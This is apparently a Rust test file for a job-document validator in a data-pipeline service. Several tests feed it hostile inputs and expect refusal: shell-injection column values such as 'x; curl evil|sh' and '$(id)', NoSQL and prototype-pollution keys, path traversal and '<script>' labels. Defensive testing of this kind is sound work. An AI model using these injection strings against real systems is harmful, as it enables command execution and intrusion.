//! Corpus parts B, E and F as far as the arguments of a title go.

use serde_json::json;

use super::super::check::{CheckSettings, check};
use super::super::fixtures::{accepted, around, job, refused};
use super::*;

/// Job 2 of [`around`] with a title and further members.
fn with(title: &str, members: Value) -> Map<String, Value> {
    let mut all = json!({ "title": title });
    for (key, value) in members.as_object().unwrap() {
        all[key] = value.clone();
    }
    around(all)
}

#[track_caller]
fn refused_each(title: &str, member: &str, code: &'static str, others: &Value, values: &[Value]) {
    for value in values {
        let mut members = others.clone();
        members[member] = value.clone();
        refused(&with(title, members), code, &format!("/jobs/1/{member}"));
    }
}

#[test]
fn titles_are_the_platforms() {
    for title in [json!("hack"), json!("Cleaning"), json!(5), json!(null)] {
        refused(&around(json!({ "title": title })), "unknown-title", "/jobs/1/title");
    }
    refused(&around(json!({})), "unknown-title", "/jobs/1/title");
    let hint = |title: &str| {
        check(&around(json!({ "title": title })), &CheckSettings::default()).unwrap_err().problems.swap_remove(0).hint
    };
    assert_eq!(hint("Cleaning"), r#"did you mean "cleaning"?"#);
    assert_eq!(hint("data-sinc"), r#"did you mean "data-sink"?"#);
    assert!(hint("hack").starts_with("titles are dataset, "));
}

#[test]
fn titles_that_are_sent_have_a_service() {
    let arguments = json!({"label": "l", "max-shrink": 0.1, "column": "c", "join-type": "inner", "function": {}});
    for title in TITLES {
        let mut findings = super::super::findings::Findings::default();
        let settings = CheckSettings::default();
        let object = arguments.as_object().unwrap();
        let mut reader = Reader { object, at: String::new(), settings: &settings, findings: &mut findings };
        let kind = read_kind(title, &mut reader).expect("the arguments fit every title");
        assert_eq!((kind.title(), kind.service().is_some()), (title, is_sent(title)));
    }
}

#[test]
fn max_shrink_passes_unchanged_unless_it_is_nothing() {
    let of = |value: Value| match job(&with("cleaning", json!({ "max-shrink": value })), 1).kind {
        JobKind::Cleaning { max_shrink } => max_shrink,
        other => panic!("{other:?}"),
    };
    for nothing in [json!(false), json!(0), json!(0.0), json!(-0.0)] {
        assert_eq!(of(nothing), None);
    }
    for same in [json!(null), json!(true), json!("0.5"), json!(0.5), json!(7), json!(-1.5)] {
        assert_eq!(of(same.clone()), Some(same));
    }
    let at = "/jobs/1/max-shrink";
    accepted(&with("cleaning", json!({})), &[("missing-max-shrink", at)]);
    for usual in [json!(0.2), json!(1), json!(null), json!(true)] {
        accepted(&with("cleaning", json!({ "max-shrink": usual })), &[]);
    }
    for odd in [json!("x"), json!(1.01), json!(-0.1), json!(1e300)] {
        accepted(&with("cleaning", json!({ "max-shrink": odd })), &[("odd-max-shrink", at)]);
    }
    refused_each("cleaning", "max-shrink", "type", &json!({}), &[json!([]), json!({}), json!([0.5])]);
    refused_each("cleaning", "max-shrink", "too-long", &json!({}), &[json!("x".repeat(1_000_000))]);
}

#[test]
fn joins_need_a_column_and_a_type() {
    let join = |column: Value, join_type: Value| {
        let mut document = with("data-join", json!({"from": [1, 1], "column": column, "join-type": join_type}));
        for member in ["column", "join-type"] {
            if document["jobs"][1][member] == "absent" {
                document["jobs"][1].as_object_mut().unwrap().remove(member);
            }
        }
        document["jobs"][0]["next"] = json!([2, 2]);
        document
    };
    for join_type in ["inner", "Left", "right", "OUTER", "join"] {
        accepted(&join(json!("ID of row"), json!(join_type)), &[]);
    }
    accepted(&join(json!(5), json!("iner")), &[("unknown-join-type", "/jobs/1/join-type")]);
    refused(&join(json!("absent"), json!("inner")), "missing", "/jobs/1/column");
    refused(&join(json!("ID"), json!("absent")), "missing", "/jobs/1/join-type");
    refused(&join(json!(["ID"]), json!("inner")), "type", "/jobs/1/column");
    refused(&join(json!("ID"), json!(1)), "type", "/jobs/1/join-type");
    refused(&join(json!(""), json!("inner")), "length", "/jobs/1/column");
    refused(&join(json!("a\nb"), json!("inner")), "charset", "/jobs/1/column");
}

#[test]
fn functions_are_objects() {
    refused(&with("function", json!({})), "bad-function", "/jobs/1/function");
    refused_each("function", "function", "bad-function", &json!({}), &[json!(null), json!("f"), json!([]), json!(5)]);
    refused_each("function", "function", "limit", &json!({}), &[json!({"expression": "x".repeat(1 << 20)})]);
    for args in [
        json!({}),
        json!({"args": "x"}),
        json!({"args": ["a", "b", "c"]}),
        json!({"args": [{"value": 1}, {"feature": "x"}]}),
    ] {
        accepted(&with("function", json!({ "function": args, "from": [1] })), &[]);
    }
}

#[test]
fn columns_reach_a_shell() {
    for title in ["classification", "regression"] {
        let others = json!({"algorithm": "factorization machines", "automl": false});
        let shell = [
            json!("x; curl evil|sh"),
            json!("$(id)"),
            json!("`id`"),
            json!("a\nb"),
            json!("--conf"),
            json!("-e"),
            json!("a b"),
        ];
        refused_each(title, "column", "spark-arg", &others, &shell);
        refused_each(title, "column", "length", &others, &[json!(""), json!("c".repeat(2048))]);
        refused_each(title, "column", "type", &others, &[json!(null), json!(5), json!({})]);
        refused(&with(title, others.clone()), "missing", "/jobs/1/column");
    }
    // Clustering sends `dummycolumn` whatever stands here.
    for column in [json!(""), json!("x; y"), json!(null), json!([])] {
        accepted(&with("clustering", json!({"algorithm": "kmeans", "column": column})), &[]);
    }
    accepted(&with("clustering", json!({"algorithm": "kmeans"})), &[]);

    let any = CheckSettings { spark_arguments_any: true, ..CheckSettings::default() };
    let column = |text: &str| with("regression", json!({"algorithm": "isotonic", "column": text}));
    assert!(check(&column("x; curl evil|sh"), &any).is_ok());
    let problem = check(&column("a\nb"), &any).unwrap_err().problems.swap_remove(0);
    assert_eq!((problem.code, problem.at.as_str()), ("charset", "/jobs/1/column"));
}

#[test]
fn algorithms_fall_back_to_the_default() {
    let at = "/jobs/1/algorithm";
    let ml = |algorithm: Value, automl: bool| with("clustering", json!({"algorithm": algorithm, "automl": automl}));
    accepted(&ml(json!("power iteration clustering"), false), &[]);
    for unknown in [json!("k-means"), json!("Kmeans"), json!(""), json!(5), json!(true)] {
        accepted(&ml(unknown, false), &[("unknown-algorithm", at)]);
    }
    for nothing in [json!("false"), json!(false), json!(null)] {
        accepted(&ml(nothing.clone(), false), &[("missing-algorithm", at)]);
        accepted(&ml(nothing, true), &[]);
    }
    accepted(&with("clustering", json!({})), &[("missing-algorithm", at)]);
    refused_each("clustering", "algorithm", "type", &json!({}), &[json!([]), json!({})]);
    refused_each("clustering", "algorithm", "too-long", &json!({}), &[json!("x".repeat(1025))]);
}

#[test]
fn automl_is_on_when_it_equals_true() {
    let automl = |value: Value| match job(&with("clustering", json!({"algorithm": "kmeans", "automl": value})), 1).kind
    {
        JobKind::Ml { args, .. } => args.automl,
        other => panic!("{other:?}"),
    };
    assert!(automl(json!(true)) && automl(json!(1)));
    assert!(!automl(json!(false)) && !automl(json!(0)) && !automl(json!(null)));
    refused_each(
        "clustering",
        "automl",
        "type",
        &json!({"algorithm": "kmeans"}),
        &[json!("yes"), json!("true"), json!(2), json!([])],
    );
}

#[test]
fn params_cannot_change_the_document_around_them() {
    let params = |params: Value| with("clustering", json!({"algorithm": "kmeans", "params": params}));
    accepted(&params(json!({"max-trials": "5", "k": 3, "inner": {"a.b": 1, "$x": 2}})), &[]);
    accepted(&params(json!(null)), &[]);
    for key in ["$where", "a.b", "__proto__", "_id", "job-id"] {
        refused(&params(json!({ key: 1 })), "bad-key", &format!("/jobs/1/params/{key}"));
    }
    refused(&params(json!({"a\0b": 1})), "bad-key", "/jobs/1/params/a\0b");
    refused(&params(json!({"x": {"y\0": 1}})), "bad-key", "/jobs/1/params/x/y\0");
    refused_each("clustering", "params", "type", &json!({"algorithm": "kmeans"}), &[json!([]), json!("x"), json!(5)]);
    refused(&params(json!({"x": "y".repeat(1 << 20)})), "limit", "/jobs/1/params");
    let many: Map<String, Value> = (0..10_001).map(|n| (format!("k{n}"), json!(1))).collect();
    refused(&params(Value::Object(many)), "too-many-fields", "/jobs/1/params");
}

#[test]
fn labels_are_free_text() {
    let chart = json!({"from": 1, "next": [0]});
    refused(&with("visualization", chart.clone()), "missing", "/jobs/1/label");
    refused_each("visualization", "label", "charset", &json!({}), &[json!("a/b"), json!("<script>"), json!(" a")]);
    refused_each("visualization", "label", "type", &json!({}), &[json!(null), json!(1)]);
    for label in ["a.b", "$set", "__proto__", "Γράφημα 1 🎉"] {
        accepted(&with("visualization", json!({ "label": label })), &[]);
    }
    let dataset = |label: Value| {
        let mut document = with("visualization", json!({"label": "x"}));
        document["jobs"][0]["label"] = label;
        document
    };
    for label in [json!("Δεδομένα μου/2024"), json!("a b"), json!(2024)] {
        accepted(&dataset(label), &[]);
    }
    for label in ["../../other-tenant/x", "a//b", "/abs", "a/", "   ", "<script>"] {
        refused(&dataset(json!(label)), "charset", "/jobs/0/label");
    }
    for label in ["".to_owned(), "x".repeat(300)] {
        refused(&dataset(json!(label)), "length", "/jobs/0/label");
    }
    refused(&dataset(json!("x".repeat(1_000_000))), "too-long", "/jobs/0/label");
}
